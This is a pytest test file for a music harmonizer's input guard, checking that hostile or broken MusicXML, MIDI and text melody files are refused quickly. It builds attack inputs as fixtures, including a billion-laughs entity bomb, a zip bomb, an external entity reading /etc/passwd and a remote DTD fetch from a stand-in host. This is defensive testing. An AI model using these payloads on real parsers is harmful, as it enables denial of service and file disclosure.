"""Hostile or broken melody files: each is refused with a clear MelodyError, fast and in little
memory, mostly before music21 sees it (composer.melody_guard). One test goes through the command
line, as a user would meet it.

The limits asserted (seconds, megabytes) are far above what a refusal takes and far below what
the unguarded reading would cost: 100,000 MIDI notes keep music21 busy for minutes, and an XML
entity bomb expands to gigabytes.
"""

from __future__ import annotations

import io
import os
import random
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from composer.melody import read_melody
from composer.melody_guard import MAX_FILE_BYTES, MAX_NOTE_EVENTS, MelodyError

REPO = Path(__file__).resolve().parents[2]
SECONDS = 5.0  # a refusal takes milliseconds; generous for a busy 2-core machine
MEGABYTES = 40.0  # Python's peak allocation while refusing, the file's own bytes included


def refused(path: Path, message: str) -> MelodyError:
    """read_melody(path) raises MelodyError matching ``message`` within the time and memory."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(MelodyError, match=message) as error:
            read_melody(path)
    finally:
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
    assert seconds < SECONDS, f"took {seconds:.1f} s"
    assert peak < MEGABYTES, f"allocated {peak:.0f} MB"
    return error.value


# --- MusicXML ------------------------------------------------------------------------------------

DOCTYPE = (
    '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" '
    '"http://www.musicxml.org/dtds/partwise.dtd">'
)


def musicxml(notes: str, doctype: str = DOCTYPE, name: str = "Soprano") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<score-partwise version="4.0">'
        f'<part-list><score-part id="P1"><part-name>{name}</part-name></score-part></part-list>'
        '<part id="P1"><measure number="1"><attributes><divisions>1</divisions>'
        "<time><beats>4</beats><beat-type>4</beat-type></time></attributes>"
        f"{notes}</measure></part></score-partwise>"
    )


def xml_note(step: str = "C", octave: int = 5, duration: int = 1) -> str:
    return (
        f"<note><pitch><step>{step}</step><octave>{octave}</octave></pitch>"
        f"<duration>{duration}</duration></note>"
    )


def billion_laughs() -> str:
    """Ten levels of ten references each: 10^9 copies of "lol" once expanded."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return musicxml(xml_note() * 4, "<!DOCTYPE score-partwise [\n" + "\n".join(levels) + "\n]>")


def test_a_plain_musicxml_melody_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "fine.musicxml"
    path.write_text(musicxml(xml_note("C") + xml_note("D") + xml_note("E") + xml_note("F")))
    assert [n.midi for n in read_melody(path).notes] == [72, 74, 76, 77]


def test_a_plain_compressed_musicxml_melody_still_reads(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("score.musicxml", musicxml(xml_note() * 4))
    path = tmp_path / "fine.mxl"
    path.write_bytes(buffer.getvalue())
    assert len(read_melody(path).notes) == 4


def test_an_xml_entity_bomb_is_refused_before_it_expands(tmp_path: Path) -> None:
    path = tmp_path / "laughs.musicxml"
    path.write_text(billion_laughs())
    refused(path, "declares the XML entity 'lol0'; entity declarations are refused")


@pytest.mark.parametrize(
    "declaration",
    [
        f'<!ENTITY big "{"x" * 50_000}">',  # one large entity used many times: quadratic blowup
        '<!ENTITY secret SYSTEM "file:///etc/passwd">',  # an external entity
        '<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;',  # a parameter one
    ],
)
def test_any_entity_declaration_is_refused(tmp_path: Path, declaration: str) -> None:
    path = tmp_path / "entity.musicxml"
    body = xml_note() * 4
    path.write_text(musicxml(body, f"<!DOCTYPE score-partwise [{declaration}]>", "&big;" * 15))
    refused(path, "entity declarations are refused")


def test_an_entity_bomb_in_a_utf16_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "laughs.xml"
    path.write_bytes(billion_laughs().replace("UTF-8", "UTF-16").encode("utf-16"))
    refused(path, "declares the XML entity")


def test_an_entity_bomb_inside_compressed_musicxml_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "laughs.mxl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("score.musicxml", billion_laughs())
    refused(path, r"laughs.mxl:score.musicxml: declares the XML entity")


def test_a_zip_bomb_is_refused_unopened(tmp_path: Path) -> None:
    path = tmp_path / "bomb.mxl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("score.musicxml", b"<" + b" " * 30_000_000)
    assert path.stat().st_size < MAX_FILE_BYTES  # it passes the size check: 30 MB in ~30 kB
    refused(path, r"unpacks to 30,000,\d+ bytes; at most 10,000,000 are accepted")


def test_xml_nested_absurdly_deep_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "deep.musicxml"
    path.write_text(musicxml("<a>" * 10_000 + "</a>" * 10_000))
    refused(path, "XML nested over 64 deep")


def test_musicxml_with_too_many_notes_is_refused_before_music21(tmp_path: Path) -> None:
    path = tmp_path / "long.musicxml"
    path.write_text(musicxml(xml_note() * 3_000))
    refused(path, f"more than {MAX_NOTE_EVENTS:,} notes; a melody may last at most 64 bars")


def test_a_note_of_absurd_length_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "held.musicxml"
    path.write_text(musicxml(xml_note(duration=10**9)))
    refused(
        path, "runs to 1,000,000,000 quarter notes in all; the harmonizer takes at most 64 bars"
    )


# --- MIDI ----------------------------------------------------------------------------------------


def variable_length(value: int) -> bytes:
    groups = [value & 0x7F]
    while value > 0x7F:
        value >>= 7
        groups.append(0x80 | (value & 0x7F))
    return bytes(reversed(groups))


def midi(events: bytes, ticks_per_quarter: int = 480) -> bytes:
    """A one-track Standard MIDI File of ``events`` (end of track added)."""
    track = events + b"\x00\xff\x2f\x00"
    header = b"MThd" + (6).to_bytes(4) + (0).to_bytes(2) + (1).to_bytes(2)
    header += ticks_per_quarter.to_bytes(2)
    return header + b"MTrk" + len(track).to_bytes(4) + track


def midi_notes(count: int, ticks: int = 480, pitch: int = 72) -> bytes:
    note = b"\x00" + bytes([0x90, pitch, 80]) + variable_length(ticks) + bytes([0x80, pitch, 0])
    return note * count


def test_a_plain_midi_melody_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "fine.mid"
    path.write_bytes(midi(midi_notes(8)))
    melody = read_melody(path)
    assert [(n.start, n.end, n.midi) for n in melody.notes[:2]] == [(0, 4, 72), (4, 8, 72)]
    assert len(melody.notes) == 8


def test_a_hundred_thousand_midi_notes_are_refused_before_music21(tmp_path: Path) -> None:
    path = tmp_path / "long.mid"
    path.write_bytes(midi(midi_notes(100_000, ticks=120)))
    assert path.stat().st_size < MAX_FILE_BYTES
    refused(path, f"more than {MAX_NOTE_EVENTS:,} notes")


def test_a_midi_note_of_absurd_length_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "held.mid"
    path.write_bytes(midi(midi_notes(1, ticks=0x0FFFFFFF)))
    refused(path, "runs to 559,240.53 quarter notes in its longest track; .* at most 64 bars")


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("noise.mid", random.Random(1).randbytes(200_000), "not a MIDI file"),
        ("noise.musicxml", random.Random(2).randbytes(200_000), "not well-formed XML"),
        ("noise.xml", b"\x00" * 1000, "not well-formed XML"),
        ("noise.mxl", random.Random(3).randbytes(200_000), "not a compressed MusicXML"),
        ("text.mid", b"C5 D5 E5 F5", "not a MIDI file"),
        ("empty.mid", b"", "not a MIDI file"),
        ("empty.musicxml", b"", "not well-formed XML"),
    ],
)
def test_binary_garbage_is_refused(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    refused(path, message)


@pytest.mark.parametrize(
    "events, message",
    [
        (random.Random(4).randbytes(200_000), "quarter notes in its longest track"),
        (b"\x00\x90\x3c", "damaged.mid: no notes"),  # a note-on cut short
        (b"\x00\xff\x03\x7f\x41", "damaged.mid: no notes"),  # a meta event longer than its track
    ],
)
def test_garbage_behind_a_midi_header_is_refused(
    tmp_path: Path, events: bytes, message: str
) -> None:
    path = tmp_path / "damaged.mid"
    path.write_bytes(midi(events))
    refused(path, message)


# --- every format --------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".txt", ".musicxml", ".mid", ".mxl"])
def test_a_file_over_the_size_limit_is_refused_unread(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"huge{suffix}"
    with path.open("wb") as file:  # sparse: a gigabyte that costs no disk
        file.truncate(10**9)
    refused(path, rf"huge\{suffix}: 1,000,000,000 bytes; a melody file may be at most 1,000,000")


# --- the text format -----------------------------------------------------------------------------


def test_a_hundred_thousand_text_notes_are_refused_early(tmp_path: Path) -> None:
    path = tmp_path / "long.txt"
    path.write_text("C5:0.25 " * 100_000)
    refused(path, r"runs to 256\.25 quarter notes at item 'C5:0\.25'; .* at most 64 bars")


@pytest.mark.parametrize(
    "item, message",
    [
        ("C5:9999", "runs to 9,999 quarter notes at item 'C5:9999'"),
        ("r:5000 C5", "runs to 5,000 quarter notes at item 'r:5000'"),
        ("C5:1e9999999", "'1e9999999' is not a duration in quarter notes"),
        ("C5:123456789012345678901234567890", "is not a duration in quarter notes"),
        ("C5:1/99999999999", "is not a duration in quarter notes"),
        ("C5:-4", "is not a duration in quarter notes"),
    ],
)
def test_an_absurd_text_duration_is_refused(tmp_path: Path, item: str, message: str) -> None:
    path = tmp_path / "held.txt"
    path.write_text(item)
    refused(path, message)


# --- through the command line --------------------------------------------------------------------


def test_the_command_refuses_a_hostile_file_with_a_clear_error(tmp_path: Path) -> None:
    melody = tmp_path / "laughs.musicxml"
    melody.write_text(billion_laughs())
    started = time.monotonic()
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "composer",
            "harmonize",
            "--melody",
            str(melody),
            "--out",
            str(tmp_path / "out.musicxml"),
        ],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    assert "error: laughs.musicxml: declares the XML entity 'lol0'" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "out.musicxml").exists()
    assert time.monotonic() - started < 60  # mostly importing torch and music21
